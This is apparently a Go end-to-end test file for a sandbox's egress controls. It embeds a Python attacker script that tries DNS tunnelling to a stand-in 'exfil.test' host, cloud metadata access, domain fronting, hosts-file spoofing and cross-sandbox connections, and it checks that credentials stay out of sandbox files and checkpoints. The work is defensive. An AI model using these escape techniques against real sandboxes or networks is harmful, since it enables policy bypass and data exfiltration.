package e2e

import (
	"bytes"
	"encoding/json"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/space-sandbox/space/internal/spacedtest"
	"github.com/space-sandbox/space/pkg/client"
)

// attacker runs inside a sandbox and tries every way out it knows, printing one JSON object:
// attempt → {"ok": bool, "detail": "..."}. Its word is not trusted: each attempt is judged by
// what reached the far side.
const attacker = `
import json, socket, ssl, struct, sys, urllib.request
CA = '/root/ca.pem'
other_ip, gateway_ip = sys.argv[1], sys.argv[2]
res = {}
def attempt(name, fn):
    try:
        res[name] = {'ok': True, 'detail': str(fn())[:300]}
    except Exception as e:
        res[name] = {'ok': False, 'detail': repr(e)[:300]}
def http(url, host=None):
    req = urllib.request.Request(url, headers={'Host': host} if host else {})
    ctx = ssl.create_default_context(cafile=CA)
    return urllib.request.urlopen(req, timeout=4, context=ctx).read().decode()
def tcp(ip, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
    s.connect((ip, port)); s.sendall(b'hello\n'); r = s.recv(100)
    if not r: raise Exception('connection closed without an answer')
    return r
def udp(ip, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'quic-or-other', (ip, port)); return 'sent'
def dnsq(server, name):
    q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'):
        q += bytes([len(label)]) + label.encode()
    q += b'\x00' + struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, (server, 53)); r = s.recv(512)
    rcode, an = r[3] & 15, struct.unpack('>H', r[6:8])[0]
    if rcode != 0 or an == 0: raise Exception('rcode %d answers %d' % (rcode, an))
    return 'answers %d' % an
attempt('allowed_http', lambda: http('http://allowed.test/'))
attempt('allowed_https', lambda: http('https://allowed.test/'))
attempt('denied_http', lambda: http('http://denied.test/'))
attempt('denied_https', lambda: http('https://denied.test/'))
attempt('direct_ip_http', lambda: http('http://203.0.113.20/'))
attempt('direct_ip_tls', lambda: tcp('203.0.113.20', 443))
attempt('custom_resolver', lambda: dnsq('203.0.113.53', 'denied.test'))
attempt('dns_tunnel', lambda: dnsq('8.8.8.8', 'c2VjcmV0LWRhdGE.exfil.test'))
attempt('metadata_ip', lambda: http('http://169.254.169.254/latest/meta-data/'))
attempt('metadata_name', lambda: http('http://meta.test/'))
attempt('rebind', lambda: http('http://rebind.test/'))
attempt('ipv6', lambda: tcp('2001:db8::10', 80, socket.AF_INET6))
attempt('udp_quic', lambda: udp('203.0.113.10', 443))
attempt('udp_other', lambda: udp('203.0.113.10', 9999))
def ping(ip):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2)
    body = struct.pack('>BBHHH', 8, 0, 0, 1, 1) + b'ping'
    csum = sum(struct.unpack('>%dH' % (len(body) // 2), body)); csum = (csum >> 16) + (csum & 0xffff); csum = ~(csum + (csum >> 16)) & 0xffff
    s.sendto(body[:2] + struct.pack('>H', csum) + body[4:], (ip, 0)); return s.recv(100)
attempt('icmp', lambda: ping('203.0.113.10'))
attempt('metadata_host', lambda: http('http://203.0.113.10/', host='meta.test'))
attempt('rebind_host', lambda: http('http://203.0.113.10/', host='rebind.test'))
attempt('denied_host_header', lambda: http('http://203.0.113.10/', host='denied.test'))
def tls_to(ip, name):
    ctx = ssl.create_default_context(cafile=CA)
    s = ctx.wrap_socket(socket.create_connection((ip, 443), timeout=3), server_hostname=name)
    s.sendall(b'GET / HTTP/1.1\r\nHost: ' + name.encode() + b'\r\n\r\n'); return s.recv(200)
attempt('denied_sni_by_ip', lambda: tls_to('203.0.113.10', 'denied.test'))
attempt('host_port', lambda: tcp('203.0.113.254', 2222))
attempt('gateway_port', lambda: tcp(gateway_ip, 2223))
attempt('other_sandbox', lambda: tcp(other_ip, 8080))
with open('/etc/hosts', 'a') as f:
    f.write('203.0.113.20 allowed.test\n')
attempt('hosts_spoof', lambda: http('http://allowed.test/spoofed'))
print(json.dumps(res))
`

// TestEgressRedTeam: a sandbox allowed only some names tries every known way out; each attempt
// is judged by what reached "the internet" (or the host, or another sandbox), and the allowed
// controls must get through.
func TestEgressRedTeam(t *testing.T) {
	in := newInternet(t)
	for _, addr := range []string{spacedAddr + ":2222", "0.0.0.0:2223"} {
		if err := in.HostListener(addr); err != nil {
			t.Fatal(err)
		}
	}
	d := startSpacedIn(t, in)
	c := d.Client
	ctx := ctxT(t)
	policy := &client.Egress{Default: "deny", Allow: []string{"allowed.test", "meta.test", "rebind.test"}}
	victim := create(t, c, client.CreateSandboxRequest{Template: "base"}).ID
	if _, err := c.ExecBackground(ctx, victim, client.ExecRequest{Command: `python3 -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('0.0.0.0', 8080)); s.listen(5)
while True:
    c, a = s.accept(); open('/tmp/victim.log', 'a').write('connection from %s\n' % (a,)); c.close()
"`}); err != nil {
		t.Fatal(err)
	}
	myIP := func(id string) string {
		return strings.TrimSpace(run(t, c, id, `python3 -c "import socket;s=socket.socket(2,2);s.connect(('203.0.113.10',9));print(s.getsockname()[0])"`).Stdout)
	}
	victimIP := myIP(victim)
	sb := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{Egress: policy}})
	if sb.Network == nil || sb.Network.Egress == nil || len(sb.Network.Egress.Allow) != 3 {
		t.Fatalf("policy not recorded: %+v", sb.Network)
	}
	attackerIP := myIP(sb.ID)
	gatewayIP := strings.TrimSpace(run(t, c, sb.ID, `awk '/nameserver/ {print $2}' /etc/resolv.conf`).Stdout)
	if _, err := c.Upload(ctx, sb.ID, "/root/ca.pem", bytes.NewReader(in.CAPEM), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Upload(ctx, sb.ID, "/root/attack.py", strings.NewReader(attacker), nil); err != nil {
		t.Fatal(err)
	}
	res := run(t, c, sb.ID, "python3 /root/attack.py "+victimIP+" "+gatewayIP)
	var got map[string]struct {
		OK     bool   `json:"ok"`
		Detail string `json:"detail"`
	}
	if err := json.Unmarshal([]byte(res.Stdout), &got); err != nil {
		t.Fatalf("attacker output: %v\n%s\n%s", err, res.Stdout, res.Stderr)
	}
	time.Sleep(500 * time.Millisecond) // let stray packets arrive, if any
	for name, r := range got {
		t.Logf("%-16s ok=%-5v %s", name, r.OK, r.Detail)
	}
	// Controls: allowed names work, over HTTP and HTTPS (the sandbox verifies the real server).
	for _, name := range []string{"allowed_http", "allowed_https"} {
		if !got[name].OK || !strings.Contains(got[name].Detail, "internet:"+inetAllowed+":allowed.test") {
			t.Errorf("control %s failed: %+v", name, got[name])
		}
	}
	if !in.Saw("http request at "+inetAllowed, "host=allowed.test", "from "+spacedAddr) || !in.Saw("https sni=allowed.test request at "+inetAllowed) {
		t.Errorf("allowed requests did not reach the internet: %v", in.Seen())
	}
	// Every other attempt fails, and nothing of it reaches the far side.
	for name, r := range got {
		if r.OK && name != "allowed_http" && name != "allowed_https" && name != "hosts_spoof" && name != "udp_quic" && name != "udp_other" {
			t.Errorf("attempt %s got through: %s", name, r.Detail)
		}
	}
	for _, bad := range [][]string{
		{"at " + inetDenied},      // denied.test by name, by address, by spoofed /etc/hosts
		{"host=denied.test"},      // or by naming it to an allowed address (Host, SNI)
		{"dns query denied.test"}, // a denied name is never resolved
		{"dns query c2vjcmv0"},    // nor an unknown one (no tunnelling)
		{"exfil.test"},            //
		{"at " + metadataIP},      // metadata, by address or by a name resolving to it
		{"udp at"},                // QUIC and other UDP
		{"icmp echo from"},        // ping, from any address
		{"host port"},             // the host's own ports
		{"from " + attackerIP},    // nothing from the sandbox's own address, ever
		{"dns query", "from " + attackerIP},
	} {
		if in.Saw(bad...) {
			t.Errorf("reached the far side (%v): %v", bad, in.Seen())
		}
	}
	if res := run(t, c, victim, "cat /tmp/victim.log 2>/dev/null; true"); res.Stdout != "" {
		t.Errorf("another sandbox was reached: %q", res.Stdout)
	}
	// The spoofed /etc/hosts entry changed nothing: the request went to allowed.test's real address.
	if !got["hosts_spoof"].OK || !in.Saw("request at "+inetAllowed, "host=allowed.test") || !strings.Contains(got["hosts_spoof"].Detail, "internet:"+inetAllowed) {
		t.Errorf("spoofed name: %+v", got["hosts_spoof"])
	}

	// Decisions are recorded with reasons.
	events, err := c.EgressEvents(ctx, sb.ID)
	if err != nil {
		t.Fatal(err)
	}
	reasons := map[string]string{}
	for _, e := range events {
		reasons[e.Host+"/"+e.Decision] = e.Reason
	}
	if reasons["allowed.test/allow"] == "" || reasons["denied.test/deny"] == "" || !strings.Contains(reasons["rebind.test/deny"], "never reachable") {
		t.Errorf("egress log: %+v", events)
	}

	// Decisions stream as they happen, and are counted in /metrics.
	watch, err := c.WatchEgress(ctx, sb.ID)
	if err != nil {
		t.Fatal(err)
	}
	defer watch.Close()
	run(t, c, sb.ID, `python3 -c "import urllib.request; urllib.request.urlopen('http://203.0.113.10/', timeout=4)" 2>/dev/null; true`)
	if ev, err := watch.Next(); err != nil || ev.Decision != "deny" || ev.IP != inetAllowed || ev.Proto != "tcp" {
		t.Errorf("streamed egress event: %+v %v", ev, err)
	}
	hc := &http.Client{Transport: &http.Transport{DialContext: spacedtest.NetnsDialer(nsPath(in.HostNS))}}
	if resp, err := hc.Get(d.URL + "/metrics"); err != nil {
		t.Error(err)
	} else {
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !strings.Contains(string(body), `space_egress_decisions_total{decision="deny"}`) || strings.Contains(string(body), `space_egress_decisions_total{decision="deny"} 0`) {
			t.Errorf("metrics: %s", body)
		}
	}

	// A policy change applies to the live sandbox at once.
	if _, err := c.UpdateNetwork(ctx, sb.ID, client.Egress{Default: "deny", Allow: []string{"allowed.test", "denied.test"}}); err != nil {
		t.Fatal(err)
	}
	out := run(t, c, sb.ID, `python3 -c "import urllib.request;print(urllib.request.urlopen('http://denied.test/', timeout=4).read().decode())"`)
	if !strings.Contains(out.Stdout, "internet:"+inetDenied+":denied.test") || !in.Saw("http request at "+inetDenied, "host=denied.test") {
		t.Errorf("after allowing denied.test: %+v", out)
	}
	if _, err := c.UpdateNetwork(ctx, sb.ID, client.Egress{Default: "deny", Allow: []string{"bad name!"}}); err == nil {
		t.Error("a malformed policy was accepted")
	}

	// Inspection: the gateway terminates TLS with the installation CA (trusted in the sandbox
	// through the system bundle), verifies the real server, and refuses a Host other than the
	// TLS server name — domain fronting both ways.
	insp := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{Egress: &client.Egress{Default: "deny", Allow: []string{"allowed.test"}, Inspect: true}}}).ID
	out = run(t, c, insp, `python3 - <<'EOF'
import json, socket, ssl, urllib.request
res = {}
def tls_req(name, host):
    ctx = ssl.create_default_context()
    s = ctx.wrap_socket(socket.create_connection(('203.0.113.10', 443), timeout=4), server_hostname=name)
    s.sendall(('GET /fronted HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % host).encode())
    data = b''
    while True:
        b = s.recv(4096)
        if not b: break
        data += b
    return data.decode(errors='replace')
for name, fn in [('control', lambda: urllib.request.urlopen('https://allowed.test/inspected', timeout=4).read().decode()),
                 ('front_host', lambda: tls_req('allowed.test', 'denied.test')),
                 ('front_sni', lambda: tls_req('denied.test', 'allowed.test'))]:
    try: res[name] = 'ok ' + fn()[:200]
    except Exception as e: res[name] = 'error ' + repr(e)[:200]
print(json.dumps(res))
EOF`)
	var fr map[string]string
	if err := json.Unmarshal([]byte(out.Stdout), &fr); err != nil {
		t.Fatalf("inspection attacker: %v: %+v", err, out)
	}
	t.Logf("inspected: %v", fr)
	if !strings.Contains(fr["control"], "internet:"+inetAllowed+":allowed.test") || !in.Saw("https sni=allowed.test request at "+inetAllowed, "host=allowed.test", "from "+spacedAddr) {
		t.Errorf("control through the inspecting gateway failed: %v", fr["control"])
	}
	if !strings.Contains(fr["front_host"], "421 Misdirected") {
		t.Errorf("Host other than SNI not refused: %v", fr["front_host"])
	}
	if strings.HasPrefix(fr["front_sni"], "ok") {
		t.Errorf("denied SNI with an allowed Host got through: %v", fr["front_sni"])
	}
	if in.Saw("host=denied.test", "sni=allowed.test") || in.Saw("sni=denied.test") {
		t.Errorf("a fronted request reached the internet: %v", in.Seen())
	}
	if res := run(t, c, insp, "grep -l 'PRIVATE KEY' /etc/space/* 2>/dev/null; ls /etc/space"); strings.Contains(res.Stdout, "PRIVATE") || !strings.Contains(res.Stdout, "ca.crt") {
		t.Errorf("/etc/space in the sandbox: %q", res.Stdout)
	}
}

// TestEgressCredentials: a sandbox holds only a placeholder; the gateway sets the real value on
// TLS requests to the secret's host, after verifying it, replacing what the sandbox sent; never
// over plain HTTP, never to another host; the value is in no file, environment or checkpoint of
// the sandbox, and not in the database in the clear.
func TestEgressCredentials(t *testing.T) {
	in := newInternet(t)
	d := startSpacedIn(t, in)
	c := d.Client
	ctx := ctxT(t)
	secret := "ghs_" + spacedtest.RandomHex(16)
	if err := c.PutSecret(ctx, "github", client.PutSecretRequest{Value: secret, Hosts: []string{"allowed.test"}, Format: "token {value}"}); err != nil {
		t.Fatal(err)
	}
	list, err := c.ListSecrets(ctx)
	if err != nil || len(list) != 1 || list[0].Name != "github" || list[0].Header != "Authorization" {
		t.Fatalf("secrets: %+v %v", list, err)
	}
	if _, err := c.CreateSandbox(ctx, client.CreateSandboxRequest{Template: "minimal", Network: &client.NetworkSpec{Credentials: []string{"gitlab"}}}); err == nil {
		t.Fatal("a sandbox with an unknown credential was created")
	}
	sb := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{
		Egress: &client.Egress{Default: "deny", Allow: []string{"allowed.test", "denied.test"}}, Credentials: []string{"github"}}}).ID
	if env := run(t, c, sb, "env").Stdout; strings.Contains(env, secret) || !strings.Contains(env, "SPACE_SECRET_GITHUB=space-placeholder-github") {
		t.Fatalf("sandbox environment: %q", env)
	}
	if _, err := c.Upload(ctx, sb, "/root/ca.pem", bytes.NewReader(in.CAPEM), nil); err != nil { // not intercepted: the real server's CA
		t.Fatal(err)
	}
	out := run(t, c, sb, `python3 - <<'EOF'
import os, urllib.request
import ssl
def get(url, auth, ctx=None):
    try: return urllib.request.urlopen(urllib.request.Request(url, headers={'Authorization': auth}), timeout=4, context=ctx).read().decode().strip()
    except Exception as e: return 'error ' + repr(e)
ph = 'token ' + os.environ['SPACE_SECRET_GITHUB']
print(get('https://allowed.test/tls', 'token forged-by-the-sandbox'))
print(get('http://allowed.test/plain', ph))
print(get('https://denied.test/other', ph, ssl.create_default_context(cafile='/root/ca.pem')))
EOF`)
	t.Logf("sandbox saw: %q", out.Stdout)
	if !in.Saw("https sni=allowed.test request at "+inetAllowed, "path=/tls", "auth=token "+secret) {
		t.Errorf("the credential was not set on the TLS request to its host: %v", in.Seen())
	}
	if in.Saw("forged-by-the-sandbox") {
		t.Error("the sandbox's own header value went out instead of being replaced")
	}
	for _, l := range in.Seen() {
		if strings.Contains(l, secret) && !strings.Contains(l, "path=/tls") {
			t.Errorf("the credential went where it must not: %s", l)
		}
	}
	if !in.Saw("http request at "+inetAllowed, "path=/plain", "auth=token space-placeholder-github") || !in.Saw("request at "+inetDenied, "path=/other", "auth=token space-placeholder-github") {
		t.Errorf("plain HTTP and other hosts should carry the placeholder untouched: %v", in.Seen())
	}
	// Nowhere in the sandbox: its files (its writable layer, searched from the host: a search
	// inside would put the value into the sandbox), and its memory as a checkpoint image.
	home := d.Opts.Home
	if hits := grepTree(t, filepath.Join(home, "runtime", "gvisor", "sandboxes", sb, "upper"), secret); len(hits) > 0 {
		t.Errorf("the credential is in the sandbox's files: %v", hits)
	}
	if _, err := c.PauseSandbox(ctx, sb); err != nil {
		t.Fatal(err)
	}
	if hits := grepTree(t, filepath.Join(home, "checkpoints", sb), secret); len(hits) > 0 {
		t.Errorf("the credential is in the sandbox's checkpoint: %v", hits)
	}
	if len(grepTree(t, filepath.Join(home, "checkpoints", sb), "space-placeholder-github")) == 0 {
		t.Error("control: the placeholder is not found in the checkpoint either, so the grep proves nothing")
	}
	if hits := grepTree(t, home, secret); len(hits) > 0 {
		t.Errorf("the credential is stored in the clear: %v", hits)
	}
	if err := c.DeleteSecret(ctx, "github"); err != nil {
		t.Fatal(err)
	}
}

// grepTree lists the files under dir that contain s.
func grepTree(t *testing.T, dir, s string) []string {
	t.Helper()
	var hits []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		b, err := os.ReadFile(p)
		if err == nil && bytes.Contains(b, []byte(s)) {
			hits = append(hits, p)
		}
		return nil
	})
	return hits
}
